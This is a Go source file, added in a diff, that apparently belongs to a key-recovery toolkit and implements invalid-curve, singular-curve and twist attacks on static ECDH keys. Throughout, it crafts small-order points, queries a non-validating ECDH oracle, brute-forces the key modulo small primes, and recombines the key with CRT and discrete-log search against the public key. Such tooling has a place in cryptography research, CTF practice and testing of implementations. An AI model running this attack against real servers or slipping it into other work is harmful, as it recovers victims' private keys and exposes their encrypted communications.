@@ -0,0 +1,739 @@
+package recovery
+
+import (
+	"bytes"
+	"crypto/elliptic"
+	"encoding/json"
+	"fmt"
+	"io/ioutil"
+	"math/big"
+
+	"github.com/jakecraige/keyrecovery/pkg/dlp"
+)
+
+/*
+* Invalid-curve and twist attacks on static ECDH keys. The addition formulas for y^2 = x^3 + a·x + b
+* never use b, so a server that doesn't validate the peer's point happily multiplies a point on
+* y^2 = x^3 + a·x + b' instead, and one that only takes x multiplies points on the quadratic twist
+* whenever x^3 + a·x + b isn't a square. When such a point has a small prime order q, the answer only
+* depends on d mod q, which is found by trying every multiple of the point against the oracle's tag.
+* x(i·P) = x(-i·P), so each query gives d mod q up to sign.
+*
+* The signs are tied together within a curve by querying a point of order q_1·q_j and checking
+* which of the two CRT combinations matches, leaving one sign per curve. The residues are then
+* combined with the CRT over every choice of those signs, and if they don't cover the order the rest
+* of d is found against the public key with baby-step giant-step, or the kangaroo for wider
+* intervals.
+*
+* The curves the points come from, in order:
+*
+*   - user-supplied curves y^2 = x^3 + a·x + b' with their orders, which usually come from a CAS.
+*   - for a = 0, the six curves y^2 = x^3 + b' with j-invariant 0, whose orders follow from writing
+*     4p = t^2 + 3v^2 with Cornacchia's algorithm.
+*   - otherwise the singular curve with 4a^3 + 27b'^2 = 0, whose nonsingular points have order p - 1
+*     or p + 1 (see singular.go).
+*   - the quadratic twist, for x-only oracles, handled as y^2 = x^3 + a·v^2·x + b·v^3 for a
+*     non-square v with x coordinates divided by v on the way to the oracle.
+*   - the curve itself, when the cofactor isn't 1.
+*
+* The cofactor, and from it the order of the twist, is taken to be round((p + 1)/n), which is right
+* whenever n > 4√p.
+ */
+
+const (
+	// ECDHDefaultMaxPrimeBits bounds the primes brute forced against the oracle, each of which
+	// takes up to q/2 point additions.
+	ECDHDefaultMaxPrimeBits = 20
+
+	// ecdhMaxPrimeBits is the largest MaxPrimeBits, past which the brute force takes hours.
+	ecdhMaxPrimeBits = 28
+
+	// ecdhCMCurves is how many b' are tried to find the six curves with j-invariant 0.
+	ecdhCMCurves = 64
+
+	// ecdhPointAttempts is how many random points are tried to get one of a given order.
+	ecdhPointAttempts = 32
+
+	// ecdhAmbiguousAttempts is how many points of an order are queried before giving up on ones
+	// without a multiple with x = 0.
+	ecdhAmbiguousAttempts = 4
+)
+
+// InvalidCurve is a curve y^2 = x^3 + a·x + B sharing a with the oracle's curve, along with the
+// number of points on it.
+type InvalidCurve struct {
+	B     *big.Int
+	Order *big.Int
+}
+
+type invalidCurveFile struct {
+	B     *jsonInt `json:"b"`
+	Order *jsonInt `json:"order"`
+}
+
+// LoadInvalidCurves reads a JSON list of {"b": ..., "order": ...} objects, with the values in the
+// same formats as a curve parameter file.
+func LoadInvalidCurves(path string) ([]InvalidCurve, error) {
+	data, err := ioutil.ReadFile(path)
+	if err != nil {
+		return nil, err
+	}
+
+	var file []invalidCurveFile
+	if err := json.Unmarshal(data, &file); err != nil {
+		return nil, err
+	}
+
+	curves := make([]InvalidCurve, len(file))
+	for i, c := range file {
+		if c.B == nil || c.Order == nil {
+			return nil, fmt.Errorf("invalid curve %d is missing b or order", i)
+		}
+		curves[i] = InvalidCurve{B: &c.B.Int, Order: &c.Order.Int}
+	}
+	return curves, nil
+}
+
+// ECDHAttack recovers the static private key of an ECDH oracle that doesn't validate points.
+type ECDHAttack struct {
+	CurveID CurveIdentifier
+
+	// Pub is the oracle's public key as x||y.
+	Pub []byte
+
+	Tag ECDHTag
+
+	// XOnly is set for oracles that take only the x coordinate, which are attacked on the twist.
+	XOnly bool
+
+	// InvalidCurves are extra curves to take points from, which need full points.
+	InvalidCurves []InvalidCurve
+
+	// MaxPrimeBits bounds the subgroup orders, ECDHDefaultMaxPrimeBits if zero.
+	MaxPrimeBits int
+}
+
+// ECDHResidue is d mod Modulus up to sign, d ≡ ±Residue, learnt from points on one curve.
+type ECDHResidue struct {
+	Source  string
+	Residue *big.Int
+	Modulus *big.Int
+}
+
+// ECDHResult is the outcome of an attack. Key is nil if the residues didn't leave few enough
+// candidates to search.
+type ECDHResult struct {
+	Key      *PrivateKey
+	Residues []ECDHResidue
+	Queries  int
+}
+
+// ECDHPoint is a crafted point of small order and its encoding for the oracle.
+type ECDHPoint struct {
+	Source string
+	Order  *big.Int
+	Point  []byte
+}
+
+// ecdhSource is a curve y^2 = x^3 + a·x + b over the oracle's field with a known number of
+// points, along with how its points are presented to the oracle.
+type ecdhSource struct {
+	name  string
+	curve *weierstrassCurve
+	order *big.Int
+	xOnly bool
+
+	// vInv maps x coordinates to the oracle's for the twist, nil otherwise.
+	vInv *big.Int
+
+	// primes are the small primes dividing order which are used from this source.
+	primes []*big.Int
+}
+
+func (a *ECDHAttack) maxPrimeBits() int {
+	if a.MaxPrimeBits > 0 {
+		return a.MaxPrimeBits
+	}
+	return ECDHDefaultMaxPrimeBits
+}
+
+// Recover queries the oracle with points of small order and recovers the key from the answers.
+func (a *ECDHAttack) Recover(oracle ECDHOracle) (*ECDHResult, error) {
+	qx, qy, err := a.publicKey()
+	if err != nil {
+		return nil, err
+	}
+	sources, err := a.sources()
+	if err != nil {
+		return nil, err
+	}
+
+	result := &ECDHResult{}
+	query := func(point []byte) ([]byte, error) {
+		result.Queries++
+		return oracle.Query(point)
+	}
+
+	for _, src := range sources {
+		residue, modulus, err := a.solveSource(src, query)
+		if err != nil {
+			return nil, err
+		}
+		result.Residues = append(result.Residues, ECDHResidue{Source: src.name, Residue: residue, Modulus: modulus})
+	}
+
+	d, err := a.combine(result.Residues, qx, qy)
+	if err != nil {
+		return nil, err
+	}
+	if d != nil {
+		scheme, err := newScheme(a.CurveID, Sig_ECDSA_SHA256, "")
+		if err != nil {
+			return nil, err
+		}
+		result.Key = newPrivateKey(scheme, d)
+	}
+	return result, nil
+}
+
+// Points returns a point of each small prime order the attack would use.
+func (a *ECDHAttack) Points() ([]ECDHPoint, error) {
+	sources, err := a.sources()
+	if err != nil {
+		return nil, err
+	}
+
+	var points []ECDHPoint
+	for _, src := range sources {
+		for _, q := range src.primes {
+			x, y, err := src.pointOfOrder(q)
+			if err != nil {
+				return nil, err
+			}
+			points = append(points, ECDHPoint{Source: src.name, Order: q, Point: src.encode(x, y)})
+		}
+	}
+	return points, nil
+}
+
+// curve returns the oracle's curve, which must be a short Weierstrass one.
+func (a *ECDHAttack) curve() (elliptic.Curve, error) {
+	if !a.CurveID.IsSupported(Sig_ECDSA_SHA256) {
+		return nil, fmt.Errorf("ecdh is only supported on Weierstrass curves")
+	}
+	return a.CurveID.Curve()
+}
+
+func (a *ECDHAttack) publicKey() (*big.Int, *big.Int, error) {
+	curve, err := a.curve()
+	if err != nil {
+		return nil, nil, err
+	}
+	byteLen := byteLen(curve)
+	if len(a.Pub) != 2*byteLen {
+		return nil, nil, fmt.Errorf("public key must be %d bytes", 2*byteLen)
+	}
+	qx := new(big.Int).SetBytes(a.Pub[:byteLen])
+	qy := new(big.Int).SetBytes(a.Pub[byteLen:])
+	if !curve.IsOnCurve(qx, qy) {
+		return nil, nil, fmt.Errorf("public key is not on the curve")
+	}
+	return qx, qy, nil
+}
+
+// sources returns the curves to take points from, each with the primes it contributes. A prime is
+// only used once and no more are taken once their product exceeds the order.
+func (a *ECDHAttack) sources() ([]*ecdhSource, error) {
+	curve, err := a.curve()
+	if err != nil {
+		return nil, err
+	}
+	params := curve.Params()
+	p := params.P
+	coeffA := a.CurveID.coefficientA()
+	cofactor := ecdhCofactor(params)
+	curveOrder := new(big.Int).Mul(cofactor, params.N)
+
+	var candidates []*ecdhSource
+	if a.XOnly {
+		if len(a.InvalidCurves) > 0 {
+			return nil, fmt.Errorf("invalid curves need an oracle that takes full points")
+		}
+
+		// #E + #E' = 2p + 2
+		twistOrder := new(big.Int).Lsh(new(big.Int).Add(p, one), 1)
+		twistOrder.Sub(twistOrder, curveOrder)
+		candidates = append(candidates, newTwistSource(params, coeffA, twistOrder))
+	} else {
+		for i, c := range a.InvalidCurves {
+			if new(big.Int).Mod(c.B, p).Cmp(params.B) == 0 {
+				return nil, fmt.Errorf("invalid curve %d is the oracle's curve", i)
+			}
+			candidates = append(candidates, newECDHSource(fmt.Sprintf("invalid curve b=%#x", c.B), p, coeffA, c.B, c.Order))
+		}
+
+		if coeffA.Sign() == 0 {
+			candidates = append(candidates, cmSources(params, curveOrder)...)
+		} else if src := singularSource(params, coeffA); src != nil {
+			candidates = append(candidates, src)
+		}
+	}
+	if cofactor.Cmp(one) > 0 {
+		src := newECDHSource("curve", p, coeffA, params.B, curveOrder)
+		src.xOnly = a.XOnly
+		candidates = append(candidates, src)
+	}
+
+	if a.maxPrimeBits() > ecdhMaxPrimeBits {
+		return nil, fmt.Errorf("primes can be at most %d bits", ecdhMaxPrimeBits)
+	}
+	smallPrimes := primesBelow(1 << uint(a.maxPrimeBits()))
+	used := map[int64]bool{}
+	covered := big.NewInt(1)
+	var sources []*ecdhSource
+	rem := new(big.Int)
+	for _, src := range candidates {
+		for _, q := range smallPrimes {
+			if covered.Cmp(params.N) >= 0 {
+				break
+			}
+			bq := big.NewInt(q)
+			if used[q] || rem.Mod(src.order, bq).Sign() != 0 {
+				continue
+			}
+			used[q] = true
+			covered.Mul(covered, bq)
+			src.primes = append(src.primes, bq)
+		}
+		if len(src.primes) > 0 {
+			sources = append(sources, src)
+		}
+	}
+
+	if len(sources) == 0 {
+		return nil, fmt.Errorf("no curve has a subgroup with an order of at most %d bits", a.maxPrimeBits())
+	}
+	return sources, nil
+}
+
+// primesBelow returns the primes less than n with the sieve of Eratosthenes.
+func primesBelow(n int64) []int64 {
+	composite := make([]bool, n)
+	var primes []int64
+	for i := int64(2); i < n; i++ {
+		if composite[i] {
+			continue
+		}
+		primes = append(primes, i)
+		for j := i * i; j < n; j += i {
+			composite[j] = true
+		}
+	}
+	return primes
+}
+
+// ecdhCofactor returns round((p + 1)/n).
+func ecdhCofactor(params *elliptic.CurveParams) *big.Int {
+	h := new(big.Int).Add(params.P, one)
+	h.Add(h, new(big.Int).Rsh(params.N, 1))
+	return h.Div(h, params.N)
+}
+
+func newECDHSource(name string, p, a, b, order *big.Int) *ecdhSource {
+	params := &elliptic.CurveParams{P: p, N: order, B: new(big.Int).Mod(b, p), BitSize: p.BitLen(), Name: name}
+	return &ecdhSource{name: name, curve: newWeierstrassCurve(params, a), order: order}
+}
+
+// newTwistSource returns the twist y^2 = x^3 + a·v^2·x + b·v^3 for the smallest non-square v.
+func newTwistSource(params *elliptic.CurveParams, a, order *big.Int) *ecdhSource {
+	p := params.P
+	v := big.NewInt(2)
+	for big.Jacobi(v, p) != -1 {
+		v.Add(v, one)
+	}
+
+	v2 := new(big.Int).Mul(v, v)
+	ta := new(big.Int).Mul(a, v2)
+	tb := new(big.Int).Mul(params.B, v2.Mul(v2, v))
+	src := newECDHSource("twist", p, ta.Mod(ta, p), tb, order)
+	src.xOnly = true
+	src.vInv = new(big.Int).ModInverse(v, p)
+	return src
+}
+
+// cmSources returns the curves y^2 = x^3 + b' other than the oracle's, one for each of the six
+// possible orders.
+func cmSources(params *elliptic.CurveParams, curveOrder *big.Int) []*ecdhSource {
+	p := params.P
+	var orders []*big.Int
+	if new(big.Int).Mod(p, big.NewInt(3)).Int64() == 2 {
+		// Every curve is supersingular with p + 1 points.
+		orders = []*big.Int{new(big.Int).Add(p, one)}
+	} else {
+		for _, t := range cmTraces(p) {
+			order := new(big.Int).Add(p, one)
+			orders = append(orders, order.Sub(order, t))
+		}
+	}
+
+	var sources []*ecdhSource
+	found := map[string]bool{curveOrder.String(): true}
+	for b := int64(1); b <= ecdhCMCurves && len(found) <= len(orders); b++ {
+		bb := big.NewInt(b)
+		if bb.Cmp(params.B) == 0 {
+			continue
+		}
+		src := newECDHSource(fmt.Sprintf("invalid curve b=%d", b), p, new(big.Int), bb, nil)
+		x, y, err := src.randomPoint()
+		if err != nil {
+			continue
+		}
+
+		// The order of the curve is the only candidate that kills a random point, almost always.
+		var match *big.Int
+		for _, order := range orders {
+			if src.curve.isInfinity(src.curve.ScalarMult(x, y, order.Bytes())) {
+				if match != nil {
+					match = nil
+					break
+				}
+				match = order
+			}
+		}
+		if match == nil || found[match.String()] {
+			continue
+		}
+		found[match.String()] = true
+		src.order = match
+		src.curve.params.N = match
+		sources = append(sources, src)
+	}
+	return sources
+}
+
+// cmTraces returns the six traces of Frobenius of curves with j-invariant 0 over GF(p) for
+// p = 1 mod 3, from 4p = t^2 + 3v^2, or nil if it can't be solved.
+func cmTraces(p *big.Int) []*big.Int {
+	// Cornacchia's algorithm for x^2 + 3y^2 = 4p, starting from an odd square root of -3.
+	r := new(big.Int).ModSqrt(new(big.Int).Sub(p, big.NewInt(3)), p)
+	if r == nil {
+		return nil
+	}
+	if r.Bit(0) == 0 {
+		r.Sub(p, r)
+	}
+
+	fourP := new(big.Int).Lsh(p, 2)
+	bound := new(big.Int).Sqrt(fourP)
+	x, y := new(big.Int).Lsh(p, 1), r
+	for y.Cmp(bound) > 0 {
+		x, y = y, new(big.Int).Mod(x, y)
+	}
+
+	t := y
+	rest := new(big.Int).Sub(fourP, new(big.Int).Mul(t, t))
+	if new(big.Int).Mod(rest, big.NewInt(3)).Sign() != 0 {
+		return nil
+	}
+	rest.Div(rest, big.NewInt(3))
+	v := new(big.Int).Sqrt(rest)
+	if new(big.Int).Mul(v, v).Cmp(rest) != 0 {
+		return nil
+	}
+
+	v3 := new(big.Int).Mul(v, big.NewInt(3))
+	t1 := new(big.Int).Add(t, v3)
+	t2 := new(big.Int).Sub(t, v3)
+	traces := []*big.Int{t, t1.Rsh(t1, 1), t2.Div(t2, big.NewInt(2))}
+	for _, tr := range traces[:3] {
+		traces = append(traces, new(big.Int).Neg(tr))
+	}
+	return traces
+}
+
+// singularSource returns the singular curve with 4a^3 + 27b'^2 = 0, or nil if b' isn't in GF(p).
+func singularSource(params *elliptic.CurveParams, a *big.Int) *ecdhSource {
+	p := params.P
+
+	// b'^2 = -4a^3/27
+	b2 := new(big.Int).Exp(a, big.NewInt(3), p)
+	b2.Mul(b2, big.NewInt(-4))
+	b2.Mul(b2, new(big.Int).ModInverse(big.NewInt(27), p))
+	b := new(big.Int).ModSqrt(b2.Mod(b2, p), p)
+	if b == nil || b.Cmp(params.B) == 0 {
+		return nil
+	}
+
+	src := newECDHSource("singular curve", p, a, b, nil)
+	src.order = new(big.Int).Sub(p, one)
+	if src.curve.singularity() == "non-split node" {
+		src.order.Add(p, one)
+	}
+	src.curve.params.N = src.order
+	return src
+}
+
+// randomPoint returns a random point on the source's curve other than one with y = 0.
+func (s *ecdhSource) randomPoint() (*big.Int, *big.Int, error) {
+	p := s.curve.params.P
+	for {
+		x, err := randScalar(p)
+		if err != nil {
+			return nil, nil, err
+		}
+
+		rhs := new(big.Int).Exp(x, big.NewInt(3), p)
+		rhs.Add(rhs, new(big.Int).Mul(s.curve.a, x))
+		rhs.Add(rhs, s.curve.params.B)
+		rhs.Mod(rhs, p)
+		if big.Jacobi(rhs, p) == 1 {
+			return x, rhs.ModSqrt(rhs, p), nil
+		}
+	}
+}
+
+// pointOfOrder returns a point of prime order q. The q-part of the group isn't necessarily cyclic,
+// so a random point is multiplied by the order with all its factors of q removed and then by q for
+// as long as that doesn't give the point at infinity.
+func (s *ecdhSource) pointOfOrder(q *big.Int) (*big.Int, *big.Int, error) {
+	cofactor := new(big.Int).Set(s.order)
+	rem := new(big.Int)
+	for {
+		quo, r := new(big.Int).QuoRem(cofactor, q, rem)
+		if r.Sign() != 0 {
+			break
+		}
+		cofactor = quo
+	}
+
+	for i := 0; i < ecdhPointAttempts; i++ {
+		rx, ry, err := s.randomPoint()
+		if err != nil {
+			return nil, nil, err
+		}
+
+		x, y := s.curve.ScalarMult(rx, ry, cofactor.Bytes())
+		if s.curve.isInfinity(x, y) {
+			continue
+		}
+		for {
+			qx, qy := s.curve.ScalarMult(x, y, q.Bytes())
+			if s.curve.isInfinity(qx, qy) {
+				return x, y, nil
+			}
+			x, y = qx, qy
+		}
+	}
+
+	return nil, nil, fmt.Errorf("no point of order %s found on the %s", q, s.name)
+}
+
+// oracleX returns the x coordinate the oracle sees for a point of the source.
+func (s *ecdhSource) oracleX(x *big.Int) *big.Int {
+	if s.vInv == nil {
+		return x
+	}
+	ox := new(big.Int).Mul(x, s.vInv)
+	return ox.Mod(ox, s.curve.params.P)
+}
+
+func (s *ecdhSource) encode(x, y *big.Int) []byte {
+	byteLen := (s.curve.params.P.BitLen() + 7) / 8
+	out := leftPad(s.oracleX(x).Bytes(), byteLen)
+	if s.xOnly {
+		return out
+	}
+	return append(out, leftPad(y.Bytes(), byteLen)...)
+}
+
+// tag returns the tag the oracle answers with when the shared point is (x, y).
+func (s *ecdhSource) tag(tag ECDHTag, x, y *big.Int) []byte {
+	byteLen := (s.curve.params.P.BitLen() + 7) / 8
+	sharedX := new(big.Int)
+	if !s.curve.isInfinity(x, y) {
+		sharedX = s.oracleX(x)
+	}
+	return tag.compute(leftPad(sharedX.Bytes(), byteLen))
+}
+
+// solveSource returns d mod the product of the source's primes, up to sign.
+func (a *ECDHAttack) solveSource(src *ecdhSource, query func([]byte) ([]byte, error)) (*big.Int, *big.Int, error) {
+	var primes, residues []*big.Int
+	for _, q := range src.primes {
+		r, err := a.bruteForce(src, q, query)
+		if err != nil {
+			return nil, nil, err
+		}
+		if r != nil {
+			primes = append(primes, q)
+			residues = append(residues, r)
+		}
+	}
+	src.primes = primes
+
+	// Fix the signs relative to the first nonzero residue, which d ≡ r_1 mod q_1 is assumed to be.
+	d, m := new(big.Int), big.NewInt(1)
+	anchor := -1
+	for i, q := range src.primes {
+		// r and -r are different unless r = 0 or q = 2.
+		r := residues[i]
+		signed := r.Sign() != 0 && q.Cmp(big.NewInt(2)) != 0
+		if anchor >= 0 && signed {
+			qa, ra := src.primes[anchor], residues[anchor]
+			// A point of order q_a·q is the sum of ones of order q_a and q.
+			xa, ya, err := src.pointOfOrder(qa)
+			if err != nil {
+				return nil, nil, err
+			}
+			xq, yq, err := src.pointOfOrder(q)
+			if err != nil {
+				return nil, nil, err
+			}
+			x, y := src.curve.Add(xa, ya, xq, yq)
+			answer, err := query(src.encode(x, y))
+			if err != nil {
+				return nil, nil, err
+			}
+
+			matches := func(r *big.Int) bool {
+				cx, cy := src.curve.ScalarMult(x, y, crt(ra, qa, r, q).Bytes())
+				return bytes.Equal(src.tag(a.Tag, cx, cy), answer)
+			}
+			if !matches(r) {
+				r = new(big.Int).Sub(q, r)
+				if !matches(r) {
+					return nil, nil, fmt.Errorf("the oracle's answers on the %s are inconsistent", src.name)
+				}
+			}
+		}
+		if anchor < 0 && signed {
+			anchor = i
+		}
+
+		d = crt(d, m, r, q)
+		m.Mul(m, q)
+	}
+
+	return d, m, nil
+}
+
+// bruteForce queries a point of order q and returns d mod q up to sign. The point at infinity is
+// sent as x = 0 like most implementations do, which can't be told apart from a multiple of the
+// point with x = 0, so a point with one is swapped for another. If every one tried has one, which
+// happens when they all do, nil is returned and q is skipped.
+func (a *ECDHAttack) bruteForce(src *ecdhSource, q *big.Int, query func([]byte) ([]byte, error)) (*big.Int, error) {
+	half := new(big.Int).Rsh(q, 1).Int64()
+	for attempt := 0; attempt < ecdhAmbiguousAttempts; attempt++ {
+		x, y, err := src.pointOfOrder(q)
+		if err != nil {
+			return nil, err
+		}
+		answer, err := query(src.encode(x, y))
+		if err != nil {
+			return nil, err
+		}
+
+		// Try i·P for i up to q/2, since ±i give the same x.
+		var residue *big.Int
+		ambiguous := false
+		ix, iy := src.curve.Infinity()
+		for i := int64(0); i <= half; i++ {
+			if (residue == nil || src.oracleX(ix).Sign() == 0) && bytes.Equal(src.tag(a.Tag, ix, iy), answer) {
+				if residue != nil {
+					ambiguous = true
+					break
+				}
+				residue = big.NewInt(i)
+				if i > 0 && src.oracleX(ix).Sign() != 0 {
+					break
+				}
+			}
+			ix, iy = src.curve.Add(ix, iy, x, y)
+		}
+		if residue == nil {
+			return nil, fmt.Errorf("no multiple of a point of order %s on the %s matches the oracle's answer", q, src.name)
+		}
+		if !ambiguous {
+			return residue, nil
+		}
+	}
+
+	return nil, nil
+}
+
+// crt returns x mod m1·m2 with x ≡ r1 mod m1 and x ≡ r2 mod m2 for coprime m1 and m2.
+func crt(r1, m1, r2, m2 *big.Int) *big.Int {
+	// x = r1 + m1·((r2 - r1)·m1⁻¹ mod m2)
+	t := new(big.Int).Sub(r2, r1)
+	t.Mul(t, new(big.Int).ModInverse(m1, m2))
+	t.Mod(t, m2)
+	x := t.Mul(t, m1)
+	x.Add(x, r1)
+	return x.Mod(x, new(big.Int).Mul(m1, m2))
+}
+
+// combine tries every choice of sign for the residues and returns the d matching the public key,
+// searching what the residues leave with baby-step giant-step or the kangaroo, or nil if that's too
+// large.
+func (a *ECDHAttack) combine(residues []ECDHResidue, qx, qy *big.Int) (*big.Int, error) {
+	curve, err := a.curve()
+	if err != nil {
+		return nil, err
+	}
+	n := curve.Params().N
+
+	m := big.NewInt(1)
+	for _, r := range residues {
+		m.Mul(m, r.Modulus)
+	}
+	rest := new(big.Int).Add(n, m)
+	rest.Sub(rest, one)
+	rest.Div(rest, m)
+	if rest.BitLen() > intervalMaxBits {
+		return nil, nil
+	}
+
+	grp := dlp.CurveGroup(curve)
+	g := element{curve.Params().Gx, curve.Params().Gy}
+	gm := grp.Exp(g, m)
+	for signs := 0; signs < 1<<uint(len(residues)); signs++ {
+		d, dm := new(big.Int), big.NewInt(1)
+		for i, r := range residues {
+			ri := r.Residue
+			if signs>>uint(i)&1 == 1 {
+				ri = new(big.Int).Sub(r.Modulus, ri)
+			}
+			d = crt(d, dm, ri, r.Modulus)
+			dm.Mul(dm, r.Modulus)
+		}
+
+		// Q - d·G = t·(m·G) for t < n/m
+		h := grp.Op(element{qx, qy}, grp.Inverse(grp.Exp(g, d)))
+		if t, ok := a.searchRest(curve, gm, h, rest); ok {
+			d.Add(d, t.Mul(t, m))
+			return d.Mod(d, n), nil
+		}
+	}
+
+	return nil, fmt.Errorf("no combination of the residues matches the public key")
+}
+
+// searchRest returns t < rest with h = t·g, with baby-step giant-step when its table is small
+// enough and the kangaroo otherwise. A wrong choice of signs makes the kangaroo run until it gives
+// up, so the wider intervals are much slower with several curves.
+func (a *ECDHAttack) searchRest(curve elliptic.Curve, g, h element, rest *big.Int) (*big.Int, bool) {
+	grp := dlp.CurveGroup(curve)
+	if new(big.Int).Sqrt(rest).Cmp(big.NewInt(dlp.DefaultMaxPoints)) < 0 {
+		result, err := dlp.BabyStepGiantStep(grp, g, h, rest, nil)
+		if err != nil {
+			return nil, false
+		}
+		return result.D, true
+	}
+
+	result, err := dlp.Kangaroo(grp, g, h, new(big.Int), new(big.Int).Sub(rest, one), nil)
+	if err != nil {
+		return nil, false
+	}
+	return result.D, true
+}